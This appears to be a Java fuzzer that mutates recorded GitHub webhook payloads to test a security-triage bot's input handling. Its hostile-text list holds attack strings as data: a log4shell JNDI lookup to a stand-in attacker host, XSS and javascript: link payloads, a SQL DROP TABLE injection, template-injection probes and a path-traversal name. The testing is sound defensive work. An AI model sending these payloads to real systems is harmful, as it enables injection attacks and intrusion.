package dev.aisectriage.reliability;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * A mutation fuzzer over the recorded webhook payloads in {@code test-fixtures/}: the same seed gives the same
 * deliveries. Three families:
 *
 * <ul>
 *   <li>{@code text}: what a stranger controls, the title and body of an issue or discussion and the body of a
 *       comment, set to hostile text (line breaks by the ten thousand, NUL, terminal escapes, the bot's marker,
 *       mentions, slash commands, 200,000 characters, lone surrogates, template and log4shell strings);
 *   <li>{@code structure}: what only a holder of the webhook secret could send: fields removed, values of the wrong
 *       type, ids past 2^31, 2^63 and as decimals, unknown actions and events;
 *   <li>{@code bytes}: the signed JSON with bytes flipped, inserted or cut.
 * </ul>
 */
final class PayloadMutator {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String[] TEXT_FIELDS = {
        "issue.title", "issue.body", "comment.body", "discussion.title", "discussion.body"
    };
    private static final String[] EVENTS = {
        "issues",
        "issue_comment",
        "discussion",
        "discussion_comment",
        "installation",
        "installation_repositories",
        "ping",
        "pull_request",
        "label",
        "no_such_event"
    };
    private static final String[] ACTIONS = {
        "opened",
        "edited",
        "created",
        "deleted",
        "labeled",
        "unlabeled",
        "closed",
        "transferred",
        "",
        "OPENED",
        "opened\n",
        "x".repeat(300)
    };

    private static final String INSERTS = "{}[]\",:\\0\u0000";

    record Fixture(String name, String event, JsonNode payload) {}

    /** One delivery to send: its event header, family, what was changed, and the exact bytes to sign. */
    record Mutant(String event, String family, String change, byte[] body) {}

    private final Random random;
    private final List<Fixture> fixtures;

    PayloadMutator(long seed, List<Fixture> fixtures) {
        this.random = new Random(seed);
        this.fixtures = fixtures;
    }

    /**
     * Every GitHub payload ({@code *.json}) of the folder; the event is the file name up to its first '-'. The
     * Hugging Face Hub's payloads ({@code huggingface-*}) go to another endpoint with another signature and are left out.
     */
    static List<Fixture> fixtures(Path folder) {
        List<Fixture> out = new ArrayList<>();
        try (DirectoryStream<Path> files = Files.newDirectoryStream(folder, "*.json")) {
            for (Path f : files) {
                String name = f.getFileName().toString();
                if (name.startsWith("huggingface-")) {
                    continue;
                }
                out.add(new Fixture(name, name.substring(0, name.indexOf('-')), JSON.readTree(f.toFile())));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        out.sort(java.util.Comparator.comparing(Fixture::name)); // directory order differs between machines
        return out;
    }

    /** A mutant of the given family ({@code text}, {@code structure} or {@code bytes}). */
    Mutant next(String family) {
        Fixture f = fixtures.get(random.nextInt(fixtures.size()));
        ObjectNode payload = f.payload().deepCopy();
        return switch (family) {
            case "text" -> text(f, payload);
            case "structure" -> structure(f, payload);
            case "bytes" -> bytes(f, payload);
            default -> throw new IllegalArgumentException(family);
        };
    }

    private Mutant text(Fixture f, ObjectNode payload) {
        List<String> present = new ArrayList<>();
        for (String field : TEXT_FIELDS) {
            if (node(payload, field) != null) {
                present.add(field);
            }
        }
        if (present.isEmpty()) {
            return new Mutant(f.event(), "text", f.name() + " unchanged (no text)", write(payload));
        }
        StringBuilder change = new StringBuilder(f.name());
        int n = 1 + random.nextInt(present.size());
        for (int i = 0; i < n; i++) {
            String field = present.get(random.nextInt(present.size()));
            String value = hostileText();
            set(payload, field, NODES.textNode(value));
            change.append(' ').append(field).append('=').append(describe(value));
        }
        // a new thread each time, so that the bot's dedupe does not hide a mutant behind an earlier one
        for (String thread : new String[] {"issue", "discussion"}) {
            if (payload.get(thread) instanceof ObjectNode t) {
                t.put("number", 1 + random.nextInt(1_000_000));
            }
        }
        return new Mutant(f.event(), "text", change.toString(), write(payload));
    }

    private Mutant structure(Fixture f, ObjectNode payload) {
        StringBuilder change = new StringBuilder(f.name());
        String event = f.event();
        int n = 1 + random.nextInt(3);
        for (int i = 0; i < n; i++) {
            switch (random.nextInt(7)) {
                case 0 -> {
                    String path = randomPath(payload);
                    remove(payload, path);
                    change.append(" removed ").append(path);
                }
                case 1 -> {
                    String path = randomPath(payload);
                    JsonNode value = oddValue();
                    set(payload, path, value);
                    change.append(' ').append(path).append('=').append(describe(value.toString()));
                }
                case 2 -> {
                    JsonNode value = oddNumber();
                    String path = pick(
                            "issue.number",
                            "discussion.number",
                            "installation.id",
                            "comment.id",
                            "repository.id",
                            "issue.id");
                    set(payload, path, value);
                    change.append(' ').append(path).append('=').append(value);
                }
                case 3 -> {
                    String action = ACTIONS[random.nextInt(ACTIONS.length)];
                    payload.put("action", action);
                    change.append(" action=").append(describe(action));
                }
                case 4 -> {
                    event = EVENTS[random.nextInt(EVENTS.length)];
                    change.append(" event=").append(event);
                }
                case 5 -> {
                    String name = pick(
                            "", "noslash", "a/b/c", "../../etc", "o/" + "r".repeat(5_000), "ö/ü", "/", "o/r\u0000");
                    set(payload, "repository.full_name", NODES.textNode(name));
                    change.append(" repository.full_name=").append(describe(name));
                }
                default -> {
                    String path = pick(
                            "comment.user.type",
                            "issue.user.type",
                            "comment.author_association",
                            "sender.login",
                            "comment.user.login");
                    String value = pick("Bot", "OWNER", "MEMBER", "ai-security-triage[bot]", "", "NONE");
                    set(payload, path, NODES.textNode(value));
                    change.append(' ').append(path).append('=').append(value);
                }
            }
        }
        return new Mutant(event, "structure", change.toString(), write(payload));
    }

    private Mutant bytes(Fixture f, ObjectNode payload) {
        byte[] body = write(payload);
        int n = 1 + random.nextInt(5);
        StringBuilder change = new StringBuilder(f.name());
        for (int i = 0; i < n && body.length > 1; i++) {
            int at = random.nextInt(body.length);
            switch (random.nextInt(3)) {
                case 0 -> {
                    body[at] = (byte) random.nextInt(256);
                    change.append(" flip@").append(at);
                }
                case 1 -> {
                    byte[] longer = new byte[body.length + 1];
                    System.arraycopy(body, 0, longer, 0, at);
                    longer[at] = (byte) INSERTS.charAt(random.nextInt(INSERTS.length()));
                    System.arraycopy(body, at, longer, at + 1, body.length - at);
                    body = longer;
                    change.append(" insert@").append(at);
                }
                default -> {
                    body = java.util.Arrays.copyOf(body, at);
                    change.append(" cut@").append(at);
                }
            }
        }
        return new Mutant(f.event(), "bytes", change.toString(), body);
    }

    private String hostileText() {
        String[] pieces = {
            "\n".repeat(1 + random.nextInt(65_000)),
            "\r\n".repeat(1 + random.nextInt(32_000)),
            " \t".repeat(1 + random.nextInt(20_000)),
            "\r".repeat(1 + random.nextInt(30_000)),
            "\u0000",
            "\u001b[2J\u001b[31mred",
            "\u202eevil\u202c",
            "\ud83d\ude00",
            "\ud800",
            "<!-- ai-security-triage:comment -->",
            "@someone @org/team",
            "/ai-security explain",
            "/ai-security theme model",
            "/ai-security theme \u0000\u001b",
            "/ai-security not-security",
            "/ai-security off",
            "/ai-security " + "-".repeat(10_000),
            "${jndi:ldap://attacker/a}",
            "%s%n%x%d{}{}",
            "<script>alert(1)</script>",
            "```\n](javascript:alert(1))\n```",
            "x".repeat(65_536),
            "y".repeat(200_000),
            "\u0301".repeat(2_000),
            "torch.load on an untrusted checkpoint allows remote code execution (CVE-2024-12345)",
            "pickle deserialization of model weights from the Hub",
            "'; DROP TABLE jobs; --",
            "{{7*7}} <%= 7*7 %>",
            "",
            " ",
            randomUnicode(1 + random.nextInt(2_000))
        };
        StringBuilder b = new StringBuilder();
        int n = 1 + random.nextInt(4);
        for (int i = 0; i < n; i++) {
            b.append(pieces[random.nextInt(pieces.length)]);
        }
        return b.toString();
    }

    private String randomUnicode(int length) {
        StringBuilder b = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            b.append((char) random.nextInt(0x10000));
        }
        return b.toString();
    }

    private JsonNode oddValue() {
        return switch (random.nextInt(8)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.textNode(hostileText());
            case 2 -> NODES.arrayNode().add(1).add("two");
            case 3 -> NODES.objectNode().put("nested", true);
            case 4 -> NODES.booleanNode(random.nextBoolean());
            case 5 -> oddNumber();
            case 6 -> NODES.textNode("");
            default -> NODES.numberNode(random.nextInt());
        };
    }

    private JsonNode oddNumber() {
        return switch (random.nextInt(9)) {
            case 0 -> NODES.numberNode((1L << 32) + 12);
            case 1 -> NODES.numberNode(new BigDecimal("1e30"));
            case 2 -> NODES.numberNode(12.7);
            case 3 -> NODES.numberNode(-1);
            case 4 -> NODES.numberNode(0);
            case 5 -> NODES.textNode("12");
            case 6 -> NODES.numberNode(new BigInteger("9223372036854775808"));
            case 7 -> NODES.numberNode(Long.MAX_VALUE);
            default -> NODES.nullNode();
        };
    }

    private String randomPath(ObjectNode root) {
        List<String> paths = new ArrayList<>();
        collect(root, "", paths, 0);
        return paths.isEmpty() ? "action" : paths.get(random.nextInt(paths.size()));
    }

    private static void collect(JsonNode node, String prefix, List<String> out, int depth) {
        if (!(node instanceof ObjectNode o) || depth > 3) {
            return;
        }
        Iterator<Map.Entry<String, JsonNode>> fields = o.fields();
        while (fields.hasNext()) {
            Map.Entry<String, JsonNode> e = fields.next();
            String path = prefix.isEmpty() ? e.getKey() : prefix + "." + e.getKey();
            out.add(path);
            collect(e.getValue(), path, out, depth + 1);
        }
    }

    private static JsonNode node(ObjectNode root, String path) {
        JsonNode n = root;
        for (String part : path.split("\\.")) {
            n = n == null ? null : n.get(part);
        }
        return n;
    }

    private static void set(ObjectNode root, String path, JsonNode value) {
        String[] parts = path.split("\\.");
        ObjectNode parent = root;
        for (int i = 0; i < parts.length - 1; i++) {
            JsonNode child = parent.get(parts[i]);
            parent = child instanceof ObjectNode o ? o : parent.putObject(parts[i]);
        }
        parent.set(parts[parts.length - 1], value);
    }

    private static void remove(ObjectNode root, String path) {
        int dot = path.lastIndexOf('.');
        JsonNode parent = dot < 0 ? root : node(root, path.substring(0, dot));
        if (parent instanceof ObjectNode o) {
            o.remove(path.substring(dot + 1));
        } else if (parent instanceof ArrayNode a && !a.isEmpty()) {
            a.remove(0);
        }
    }

    private String pick(String... values) {
        return values[random.nextInt(values.length)];
    }

    private static String describe(String value) {
        String shown = value.length() > 40 ? value.substring(0, 40) + "…(" + value.length() + ")" : value;
        return dev.aisectriage.log.LogSafe.text(shown);
    }

    private static byte[] write(JsonNode payload) {
        try {
            return JSON.writeValueAsBytes(payload);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
